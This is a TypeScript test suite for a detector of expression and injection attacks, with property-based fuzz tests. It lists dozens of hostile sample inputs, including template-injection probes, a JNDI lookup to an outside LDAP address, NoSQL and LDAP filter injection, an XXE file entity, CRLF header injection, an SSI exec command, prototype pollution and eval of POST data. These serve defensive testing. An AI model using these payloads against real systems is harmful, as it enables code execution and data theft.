import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { expressionInjection } from '../../../src/inspection/expression/expression-injection.ts'
import { gated } from '../../../src/core/gated-rules.ts'

const EVALUATED: readonly (readonly [reason: string, value: string])[] = [
  ['template', '{{7*7}}'],
  ['template', "{{'a'.constructor.constructor('x')()}}"],
  ['template', "{{''.__class__.__mro__}}"],
  ['template', '${7*7}'],
  ['template', '#{7*7}'],
  ['template', '*{7*7}'],
  ['template', '<%= 7*7 %>'],
  ['template', "<%= system('id') %>"],
  ['template', '<#assign x="y"?new()>'],
  ['template', '{php}x{/php}'],
  ['template', '@(7*7)'],
  ['expression-language', '%{(#a=1)}'],
  ['look-up', '${jndi:ldap://198.51.100.7/a}'],
  ['look-up', '${${lower:j}ndi:x}'],
  ['look-up', '${::-j}${::-n}di'],
  ['document-query', '{"$where": "1"}'],
  ['document-query', '{"user": {"$ne": ""}}'],
  ['document-query', 'user[$ne]=x'],
  ['document-query', "'; return true; //"],
  ['directory-filter', '*)(uid=*'],
  ['directory-filter', '(|(cn=*)(sn=*))'],
  ['external-entity', '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///x">]>'],
  ['external-entity', '<xi:include href="x"/>'],
  ['header-injection', 'x%0d%0aSet-Cookie: a=b'],
  ['header-injection', 'x\r\nSet-Cookie: a=b'],
  ['mail-injection', 'a@example.com%0abcc:b@example.com'],
  ['server-side-include', '<!--#exec cmd="id"-->'],
  ['prototype', '{"__proto__": {"x": 1}}'],
  ['prototype', 'constructor.prototype.x'],
  ['node', "require('child_process')"],
  ['python', "__import__('os')"],
  ['deserialization', 'rO0ABXNyABFqYXZh'],
  ['deserialization', 'O:4:"Evil":1:{s:1:"a";i:1;}'],
  ['deserialization', '!!python/object:x'],
  ['java', 'java.lang.Runtime'],
  ['php', '<?php echo 1;'],
  ['php', "eval($_POST['x'])"],
  ['perl', '@{[system "id"]}'],
]
for (const [reason, value] of EVALUATED) {
  test(`${value} would be evaluated`, () => {
    const [seen] = expressionInjection(value)
    assert.equal(seen?.reason, `expression.${reason}`)
    assert.equal(seen?.family, 'expression')
  })
}

const HONEST = [
  '{{username}}',
  '{{ user.name | upper }}',
  '${start date}',
  '$var1.price$',
  '#{name}',
  '<%=title%>',
  '{"query": ${username from getDetails}}',
  'a (b) c',
  '(555) 123 (ext)',
  '{"price": {"min": 5}}',
  'cost: $5 in total',
  'Dear Anna,\r\nContent-wise it is fine.\r\nLocation: Berlin\r\nBest',
  'C:\\reports\\new',
  '<?xml version="1.0"?><note>x</note>',
  '<!DOCTYPE html><p>x</p>',
  'f(x) = 3x**2 + 2x - 1',
  'lambda x: x**2',
  'the constructor of the prototype',
  '__init__.py',
  'Set the cookie to 5',
]
for (const value of HONEST)
  test(`${JSON.stringify(value)} is data`, () => assert.deepEqual(expressionInjection(value), []))

test('nothing throws', () => {
  const piece = fc.constantFrom(
    '{{',
    '}}',
    '${',
    '}',
    '(',
    ')',
    '*',
    '7',
    '$ne',
    ':',
    '"',
    '%0a',
    '\n',
    '<!',
    '<%',
    '__',
    'a',
    ' ',
    '&',
    '|',
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 40 }), (parts) => void expressionInjection(parts.join(''))),
    { numRuns: 2000 },
  )
})

test('a rule is tried exactly where one of its signs occurs', () => {
  const letter = fc.constantFrom('a', 'B', 'c', 'é', '嘊')
  const text = fc.array(letter, { maxLength: 12 }).map((letters) => letters.join(''))
  const sign = fc.array(letter, { minLength: 1, maxLength: 3 }).map((letters) => letters.join('').toLowerCase())
  fc.assert(
    fc.property(text, sign, (value, wanted) => {
      const match = gated([{ reason: 'x', signs: [wanted], pattern: new RegExp(wanted, 'i') }])(value)
      assert.equal(match !== undefined, value.toLowerCase().includes(wanted))
    }),
    { numRuns: 2000 },
  )
})
